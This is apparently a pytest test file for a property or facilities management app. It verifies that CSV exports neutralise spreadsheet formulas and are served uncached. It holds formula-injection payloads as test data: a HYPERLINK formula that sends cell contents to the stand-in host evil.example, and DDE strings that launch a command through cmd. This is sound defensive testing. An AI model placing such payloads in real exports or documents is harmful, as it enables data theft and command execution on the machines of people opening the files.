"""Every CSV export neutralises formula cells and is never cached."""
import csv
import io

import pytest
from sqlalchemy import select

from app.models import Unit
from app.services import handover as ho
from app.services import workorders as wo
from tests.unit.test_handover import signature

EVIL = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0"]


def cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


@pytest.mark.parametrize("value,shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("plain", "plain"), ("a=1", "a=1"), ("", ""), (-2, -2), (None, None),
])
def test_safe_cell(value, shown):
    from app.services.exports import safe_cell

    assert safe_cell(value) == shown


def test_orders_csv_neutralises_hand_raised_descriptions(client, auth, demo, session):
    for text in EVIL:
        wo.raise_by_hand(session, site=demo.site, team=demo.teams["cleaning"], area=None, severity="minor",
                         description=text, user=demo.users["supervisor"])
    session.commit()
    auth.login("manager")
    resp = client.get("/manage/export/orders.csv")
    assert resp.headers["Cache-Control"] == "private, no-store"
    rows = cells(resp.get_data(as_text=True))
    titles = sorted(r[4] for r in rows[1:])
    assert titles == sorted("'" + t for t in EVIL)
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)


@pytest.mark.parametrize("what", ["answers", "rounds"])
def test_every_manage_export_is_private(client, auth, demo, what):
    auth.login("manager")
    resp = client.get(f"/manage/export/{what}.csv")
    assert resp.status_code == 200 and resp.headers["Cache-Control"] == "private, no-store"


def test_checklist_yaml_export_is_private(client, auth, demo):
    auth.login("manager")
    assert client.get("/manage/templates.yaml").headers["Cache-Control"] == "private, no-store"


def test_pdf_reports_and_the_heat_map_image_are_private(client, auth, demo, session):
    """A duty log's PDF (names, remarks) and a layout's heat map are kept by no cache, like the CSVs."""
    from app.models import Layout
    from app.services import schedule

    auth.login("manager")
    day = schedule.site_today(demo.site).isoformat()
    resp = client.get(f"/log/{demo.site.id}/{day}.pdf?lang=en")
    assert resp.status_code == 200 and resp.mimetype == "application/pdf"
    assert resp.headers["Cache-Control"] == "private, no-store"
    layout = session.scalar(select(Layout).where(Layout.plan_key.is_not(None)).order_by(Layout.id))
    resp = client.get(f"/handover/layouts/{layout.id}/heatmap.png")
    assert resp.status_code == 200 and resp.mimetype == "image/png"
    assert resp.headers["Cache-Control"] == "private, no-store"


def test_defects_csv_neutralises_descriptions(client, auth, demo, session, app):
    unit = session.scalar(select(Unit).where(Unit.room == "1201", Unit.unit_no == "1"))
    eng = demo.users["engineer"]
    insp = ho.start_inspection(session, unit, eng, owner_present="张伟")
    item = next(i for i in insp.version.items if i.room == "kitchen" and not i.photo_required_on_fail)
    ho.answer(session, insp, "kitchen", item, eng, result="defect", description="-2+3+cmd|' /C calc'!A0",
              location="=HYPERLINK(\"http://evil.example\")")
    ho.add_concern(session, insp, "balcony", "@SUM(A1:A9)", [])
    ho.sign(session, app.extensions["photo_store"], insp, eng, engineer_name="刘工", owner_name="张伟",
            engineer_sig=signature(), owner_sig=signature())
    session.commit()
    auth.login("engineer")
    resp = client.get(f"/handover/defects.csv?site={demo.site.id}")
    assert resp.headers["Cache-Control"] == "private, no-store"
    rows = cells(resp.get_data(as_text=True))
    assert len(rows) == 3
    flat = [c for r in rows[1:] for c in r]
    assert "'-2+3+cmd|' /C calc'!A0" in flat and "'=HYPERLINK(\"http://evil.example\")" in flat
    assert any(c.startswith("'@SUM") for c in flat)
    assert not any(c.startswith(("=", "+", "-", "@")) for c in flat)


def test_answers_csv_neutralises_a_supervisors_note(client, auth, demo, session):
    """A note typed on a failed item comes out of answers.csv (and the order's title out of orders.csv)
    as text, never as a formula."""
    from tests.web.helpers import item_url, started_morning

    auth.login()
    rnd = started_morning(demo)
    token = auth.token(f"/rounds/{rnd.id}/checkpoints/3")
    url, _, _ = item_url(rnd, "patrol_parking", "car_gate_guard_conduct")
    resp = client.post(url, headers={"HX-Request": "true"}, data={
        "result": "fail", "note": EVIL[0], "csrf_token": token})
    assert resp.status_code == 200
    client.post("/logout", data={"csrf_token": token})
    auth.login("manager")
    day = rnd.date.isoformat()
    resp = client.get(f"/manage/export/answers.csv?from={day}&to={day}")
    assert resp.headers["Cache-Control"] == "private, no-store"
    rows = cells(resp.get_data(as_text=True))
    assert len(rows) == 2 and "'" + EVIL[0] in rows[1]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
